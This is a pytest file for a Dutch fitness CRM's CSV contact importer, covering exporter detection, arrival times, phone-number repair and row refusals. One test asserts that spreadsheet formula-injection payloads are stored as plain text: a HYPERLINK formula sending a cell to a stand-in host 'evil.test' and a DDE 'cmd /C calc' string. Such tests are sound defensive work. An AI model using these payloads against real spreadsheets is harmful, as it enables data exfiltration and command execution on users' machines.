"""Rows into people: the fields a trainer must see, times by the rule of the source, damage said."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ptcrm.domain.enquiry import TimeTrust
from ptcrm.domain.phones import read_phones
from ptcrm.domain.refusals import Refusal
from ptcrm.integrations.contact_cells import phones_in
from ptcrm.integrations.contact_rows import ReadRow, RefusedRow, default_kind, read_rows
from ptcrm.integrations.csv_columns import guess_columns
from ptcrm.integrations.csv_file import read_table
from ptcrm.integrations.exporter import Treatment
from ptcrm.integrations.label_words import EMPTY_VALUES
from ptcrm.integrations.table_writer import write_csv

SAMPLES = Path(__file__).parents[1] / "samples"
WILD = Path(__file__).parents[3] / "shared" / "samples" / "csv"
ZONE = ZoneInfo("Europe/Amsterdam")
NOW = int(datetime(2026, 11, 23, 11, tzinfo=UTC).timestamp() * 1000)

JAN: dict[str, Any] = {
    "name": "Jan de Vries",
    "given": "Jan",
    "prefix": "de",
    "family": "Vries",
    "phone": "+31612345678",
    "email": "jan.devries@example.com",
}
JAN_MAIL = {key: value for key, value in JAN.items() if key != "phone"}


def read(data: bytes, treat_as: Treatment | None = None) -> list[ReadRow | RefusedRow]:
    table = read_table(data)
    return list(read_rows(table, guess_columns(table), NOW, ZONE, treat_as=treat_as))


def people(data: bytes, treat_as: Treatment | None = None) -> list[ReadRow]:
    return [row for row in read(data, treat_as) if isinstance(row, ReadRow)]


def sample(name: str) -> bytes:
    return next(iter(SAMPLES.glob(f"csv-*/{name}.csv"))).read_bytes()


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0, second: int = 0) -> int:
    return int(datetime(year, month, day, hour, minute, second, tzinfo=UTC).timestamp() * 1000)


@pytest.mark.parametrize(
    ("name", "exporter", "fields"),
    [
        ("cp850-typeform-mojibake", "generic", [{"name": "Zoë", "email": "zoe@example.com"}]),
        (
            "excel-nl-semicolon-cp1252",
            "generic",
            [
                {**JAN, "postcode": "3511 AB"},
                {"name": "Zoë van ’t Hof", "phone": "+31687654321", "postcode": "3511 AB"},
                {"name": "Piet Jansen", "phone": "+31612345678", "email": ""},
            ],
        ),
        ("glofox-members", "glofox", [JAN]),
        (
            "google-contacts-2024",
            "google_contacts",
            [
                {**JAN, "city": "Utrecht", "phones": ("+31687654321",), "emails": ("jan@werk.example",)},
                {"name": "Sportschool BV", "phone": "+31201234567"},
            ],
        ),
        ("google-contacts-old", "google_contacts_old", [JAN]),
        (
            "header-nbsp-bom-quotes",
            "generic",
            [{"name": "Jan", "phone": "+31612345678", "email": "jan@example.com"}],
        ),
        ("hubspot", "hubspot", [JAN]),
        ("huge-field-and-many-cols", "generic", [{"name": "Jan"}]),
        ("mailchimp-subscribed", "mailchimp", [JAN]),
        (
            "meta-leads-utf16le-tab",
            "meta",
            [
                {**JAN, "city": "Utrecht", "wants": "afvallen en sterker worden", "source": "instagram"},
                {"name": "Zoë van ’t Hof", "source": "facebook", "phone": "+31687654321"},
                {"given": 'Piet "de Beer"', "wants": "kracht"},
            ],
        ),
        ("mindbody-clients", "mindbody", [JAN_MAIL]),
        ("no-header", "generic", [JAN, {"name": "Piet Jansen", "phone": "+31687654321"}]),
        (
            "no-header-nl",
            "generic",
            [{"name": "Jan de Vries", "postcode": "3511 AB"}, {"name": "Piet Jansen"}],
        ),
        (
            "pipedrive-people",
            "pipedrive",
            [{**JAN, "email": "jan@werk.example", "emails": ("jan.devries@example.com",)}],
        ),
        ("ragged-and-title-rows", "generic", [JAN, {"name": "Piet"}]),
        ("stray-quotes", "generic", [{"name": 'Jan "de Beer" de Vries'}, {"name": "Piet Jansen"}]),
        ("tally", "tally", [{**JAN, "wants": "Afvallen, Kracht", "source": "website"}]),
        ("unclosed-quote", "generic", [{"name": "Jan"}, {"name": "Piet"}, {"name": "Kees"}]),
        ("virtuagym-members", "virtuagym", [{**JAN, "postcode": "3511 AB", "city": "Utrecht"}]),
        ("zoho-leads", "zoho", [{**JAN, "source": "facebook"}]),
        (
            "meta-utf8-questions-after",
            "meta",
            [
                {
                    "name": "Lotte Bakker",
                    "phone": "+31612340001",
                    "wants": "kracht opbouwen",
                    "source": "facebook",
                },
                {"name": "Sem Visser", "phone": "+31612340002", "postcode": "3512", "source": "instagram"},
            ],
        ),
        ("meta-utf16-questions-before", "meta", [{"name": "Anna van den Berg", "phone": "+32470123456"}]),
        (
            "leads-centre",
            "leads_centre",
            [{"name": "Mo Ali", "email": "mo@example.com", "source": "facebook"}, {"name": "Eva Smit"}],
        ),
        (
            "outlook-nl",
            "outlook",
            [{"name": "Zoë van der Meer", "phone": "+31612340004", "phones": ("+31201234567",)}],
        ),
        ("outlook-com", "outlook", [{"name": "Tim Mulder", "emails": ("tim@werk.example",)}]),
        ("thunderbird", "thunderbird", [{"name": "Karel ten Have", "city": "Zeist", "postcode": "3701 CC"}]),
        (
            "typeform",
            "typeform",
            [{"name": "Bas Kok", "phone": "+31612340007", "wants": "Afvallen / Fitter"}],
        ),
        (
            "google-forms-download",
            "google_forms",
            [{"name": "Iris Vos", "wants": "Conditie"}, {"name": "Iris Bos"}],
        ),
        ("google-forms-sheet-nl", "google_forms", [{"name": "Noa Kuipers", "phone": "+31612340009"}]),
        ("linkedin", "linkedin", [{"name": "Ruben de Wit", "email": ""}]),
        ("brevo", "brevo", [{"name": "Els de Boer", "phone": "+31612340010"}]),
        ("jotform", "jotform", [{"name": "Jip Hendriks", "phone": "+31612340011"}]),
        (
            "excel-nl-sep-line",
            "generic",
            [
                {"name": "Fleur Dekker", "postcode": "3511 AB", "city": "Utrecht", "source": "instagram"},
                {"name": "Gijs Peters", "phone": "+31612340013", "source": "Kapper om de hoek"},
            ],
        ),
        ("mailchimp-unsubscribed", "mailchimp", [{"name": "Uit Schrijver"}]),
        (
            "one-column-quoted",
            "generic",
            [{"name": "Jan de Vries"}, {"name": "Piet Bos", "email": "piet@example.com"}],
        ),
        ("encoded-twice", "generic", [{"name": "Zoë"}]),
        (
            "two-in-one-cell",
            "generic",
            [
                {"name": "Raj Patel", "email": "raj@example.in", "phone": "+31612340014"},
                {"name": "Ans Prins", "phone": "+31612340015", "phones": ("+31201234567",)},
            ],
        ),
        ("mac-roman", "generic", [{"name": "René Müller"}, {"name": "Zoë"}]),
        ("utf16be-no-bom", "generic", [{"name": "Année Bos"}]),
        (
            "wordpress-entries",
            "generic",
            [{"name": "Pim Maas", "phone": "+31612340019", "email": "pim@example.com"}],
        ),
    ],
)
def test_each_sample_gives_the_people_in_it(name: str, exporter: str, fields: list[dict[str, Any]]) -> None:
    data = sample(name)
    assert guess_columns(read_table(data)).exporter == exporter
    rows = people(data)
    found = [
        {key: getattr(row.enquiry.person, key) for key in want}
        for row, want in zip(rows, fields, strict=True)
    ]
    assert found == fields
    for row in rows:
        assert row.enquiry.person.phone_valid == row.enquiry.person.phone.startswith("+")
        assert row.enquiry.external_source
        assert row.enquiry.external_id


@pytest.mark.parametrize(
    ("name", "at", "trust"),
    [
        ("meta-leads-utf16le-tab", utc(2024, 3, 5, 15, 32, 10), TimeTrust.EXACT),
        ("meta-utf16-questions-before", utc(2025, 9, 12, 9, 35, 13), TimeTrust.EXACT),
        ("leads-centre", utc(2026, 10, 8, 1, 19), TimeTrust.ASSUMED_ZONE),
        ("typeform", utc(2026, 11, 23, 8, 3, 20), TimeTrust.EXACT),
        ("tally", utc(2024, 3, 5, 15, 32, 10), TimeTrust.EXACT),
        ("google-forms-download", utc(2026, 5, 20, 12, 43, 1), TimeTrust.EXACT),
        ("google-forms-sheet-nl", utc(2026, 11, 20, 13, 5, 10), TimeTrust.ASSUMED_ZONE),
        ("jotform", utc(2026, 11, 22, 23), TimeTrust.DATE_ONLY),
        ("excel-nl-sep-line", utc(2026, 11, 23, 8, 15), TimeTrust.ASSUMED_ZONE),
        ("wordpress-entries", utc(2026, 11, 23, 9), TimeTrust.ASSUMED_ZONE),
    ],
)
def test_arrival_follows_the_rule_of_the_source(name: str, at: int, trust: TimeTrust) -> None:
    arrival = people(sample(name))[0].enquiry.arrival
    assert arrival is not None
    assert (arrival.at, arrival.trust) == (at, trust)


@pytest.mark.parametrize(
    ("name", "at", "trust"),
    [
        ("hubspot", utc(2024, 3, 5, 15, 32), TimeTrust.ASSUMED_ZONE),
        ("mailchimp-subscribed", utc(2024, 3, 5, 15, 32, 10), TimeTrust.EXACT),
        ("excel-nl-semicolon-cp1252", utc(2024, 3, 5, 15, 32), TimeTrust.ASSUMED_ZONE),
        ("glofox-members", utc(2024, 3, 5, 15, 32, 10), TimeTrust.EXACT),
        ("linkedin", utc(2026, 5, 11, 22), TimeTrust.DATE_ONLY),
        ("brevo", utc(2022, 4, 12, 7, 30), TimeTrust.ASSUMED_ZONE),
        ("google-contacts-old", utc(2026, 11, 22, 23), TimeTrust.DATE_ONLY),
    ],
)
def test_a_list_taken_for_enquiries_keeps_its_own_moments(name: str, at: int, trust: TimeTrust) -> None:
    assert all(row.enquiry.arrival is None for row in people(sample(name), "contacts"))
    arrival = people(sample(name), "enquiries")[0].enquiry.arrival
    assert arrival is not None
    assert (arrival.at, arrival.trust) == (at, trust)


def test_excel_serials_are_moments() -> None:
    arrival = people(sample("excel-nl-semicolon-cp1252"), "enquiries")[2].enquiry.arrival
    assert arrival is not None
    assert arrival.at == utc(2024, 3, 5, 15, 32, 10)


@pytest.mark.parametrize(
    ("date", "kind"),
    [("17-11-2026 13:00", "enquiries"), ("16-11-2026 11:59", "contacts"), ("onbekend", "contacts")],
)
def test_a_list_with_arrivals_is_enquiries_only_when_fresh(date: str, kind: str) -> None:
    table = read_table(
        f"Naam;E-mail;Datum aanvraag\nJan;jan@example.com;{date}\nA;a@example.com;1-2-2024\n".encode()
    )
    assert default_kind(table, guess_columns(table), NOW, ZONE) == kind


def test_months_first_is_decided_by_the_column() -> None:
    rows = people(
        b"Name,Email,Created at\nA,a@example.com,3/4/2026 10:00\nB,b@example.com,3/25/2026 10:00\n",
        "enquiries",
    )
    assert [row.enquiry.arrival and row.enquiry.arrival.at for row in rows] == [
        utc(2026, 3, 4, 9),
        utc(2026, 3, 25, 9),
    ]


def test_numbers_a_spreadsheet_ruined() -> None:
    rows = people(sample("excel-ruined-phones"))
    assert [row.enquiry.person.phone for row in rows] == [
        "+31612345678",
        "",
        "",
        *["+31612345678"] * 4,
        "",
        "",
    ]
    notes = {row.line: [note.code for note in row.notes] for row in rows if row.notes}
    assert notes == {3: ["phone_cut_off"], 4: ["phone_cut_off"], 9: ["cell_damaged"], 10: ["cell_damaged"]}
    assert (
        rows[1].notes[0].message == "The spreadsheet cut this phone number off (3,16123E+10)."
        " The rest of the row is fine; look the number up."
    )


def test_nothing_is_ever_evaluated() -> None:
    rows = people(sample("formula-injection"))
    assert rows[0].enquiry.person.name == '=HYPERLINK("http://evil.test?x="&B2,"klik")'
    assert rows[2].enquiry.person.phone == "+31612345678"
    assert rows[2].enquiry.person.name == ""
    assert [row.enquiry.message for row in rows][1] == "@SUM(1+9)*cmd|' /C calc'!A0"


def test_meta_test_leads_stay_out_with_a_reason() -> None:
    (refused,) = [row for row in read(sample("meta-leads-utf16le-tab")) if isinstance(row, RefusedRow)]
    assert (refused.line, refused.code) == (5, "test_lead")


def test_rows_without_anybody_are_refused_by_line() -> None:
    rows = read(b"Naam;Telefoon;Opmerking\nJan;;x\n;;belde vanochtend\n;3,16E+10;\n;;\nTotaal;2;\n")
    assert [(row.line, row.code) for row in rows if isinstance(row, RefusedRow)] == [
        (3, "no_name_phone_or_email"),
        (4, "only_phone_cut_off"),
    ]
    assert len(rows) == 3


def test_ids_of_the_source_are_kept_and_other_rows_get_a_stable_one() -> None:
    assert [row.enquiry.external_id for row in people(sample("meta-utf8-questions-after"))] == [
        "l:900",
        "l:901",
    ]
    for name, own in (
        ("tally", "PgYbzQ"),
        ("typeform", "7e1f"),
        ("hubspot", "101"),
        ("pipedrive-people", "17"),
    ):
        assert people(sample(name))[0].enquiry.external_id == own
    first, again = (people(sample("leads-centre"))[0].enquiry for _ in range(2))
    moved = people(sample("leads-centre").replace(b"Intake,Unassigned", b"Converted,Femke"))[0].enquiry
    assert first.external_source == "row"
    assert first.external_id == again.external_id == moved.external_id


def test_an_unsubscribed_person_is_marked() -> None:
    assert people(sample("mailchimp-unsubscribed"))[0].enquiry.extra[0][0] == "unsubscribed"
    assert people(sample("brevo"))[0].enquiry.extra[0] == ("unsubscribed", "1")
    assert ("unsubscribed", "1") not in people(sample("mailchimp-subscribed"))[0].enquiry.extra


def test_questions_are_kept_and_consent_is_not() -> None:
    assert people(sample("meta-utf8-questions-after"))[0].enquiry.extra == (
        ("heb je blessures?", "nee, geen"),
    )
    assert people(sample("wordpress-entries"))[0].enquiry.extra == ()


def test_somebody_elses_columns_are_not_the_leads() -> None:
    (row,) = people(
        b"Naam,E-mail,Telefoon,Noodcontact telefoon,Trainer e-mail,Bedrijfsnaam\n"
        b"Jan Bos,jan@example.com,0612345678,0687654321,femke@example.com,Bos BV\n"
    )
    person = row.enquiry.person
    assert (person.name, person.phone, person.phones, person.emails) == ("Jan Bos", "+31612345678", (), ())


def test_text_that_cannot_be_stored_refuses_its_row_only() -> None:
    rows = read(b"Naam;E-mail\n" + b"x" * 10_001 + b";a@example.com\nPiet;b@example.com\n")
    assert isinstance(rows[0], RefusedRow)
    assert rows[0].code == "text_too_long"
    assert isinstance(rows[1], ReadRow)


def test_our_own_export_comes_back_whole(tmp_path: Path) -> None:
    path = tmp_path / "leads.csv"
    write_csv(
        path,
        ("Naam", "Telefoon", "E-mail", "Bericht"),
        [("Jan Bos", "+31612345678", "jan@example.com", "=1+1\nja")],
    )
    (row,) = people(path.read_bytes())
    assert row.enquiry.person.phone == "+31612345678"
    assert row.enquiry.message == "=1+1\nja"


@settings(max_examples=400, deadline=None)
@given(
    st.from_regex(r"\A(p:)?(0|\+31|0031|31)?[ -]?6[ -]?([0-9][ -]?){7,9}\Z"), st.sampled_from(["NL", "BE"])
)
def test_plain_mobiles_are_read_as_the_phone_library_does(text: str, region: str) -> None:
    text = text.strip()
    assert phones_in(text, region) == [
        (phone.e164 or phone.typed, phone.valid) for phone in read_phones(text, region)
    ]


def test_no_way_to_say_nothing_looks_like_an_answer() -> None:
    assert not any(value[-1:].isdigit() or "@" in value or len(value) > 24 for value in EMPTY_VALUES)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.lists(
            st.text(max_size=12) | st.sampled_from(["06-12345678", "a@b.nl", "5-3-2024", "=1"]),
            min_size=4,
            max_size=5,
        ),
        max_size=4,
    )
)
def test_whatever_the_cells_no_row_crashes(rows: list[list[str]]) -> None:
    lines = [["Naam", "E-mail", "Telefoon", "Datum aanvraag"], *rows]
    text = "\n".join(";".join(cell.replace(";", "").replace('"', "") for cell in line) for line in lines)
    try:
        out = read(text.encode(errors="replace"), "enquiries")
    except Refusal:
        return
    assert all(row.line >= 1 for row in out)


@pytest.mark.skipif(not WILD.is_dir(), reason="the third-party samples are not beside this clone")
def test_files_of_other_programs_never_crash() -> None:
    counts: dict[str, int] = {}
    for file in sorted(WILD.glob("*/*.csv")):
        try:
            counts[file.name] = len(people(file.read_bytes()))
        except Refusal:
            counts[file.name] = 0
    assert counts["contacts.csv"] == 500
    assert counts["contacts_export.csv"] == 2
    assert counts["comma_in_quotes.csv"] == 1
    assert counts["simple.csv"] == 0
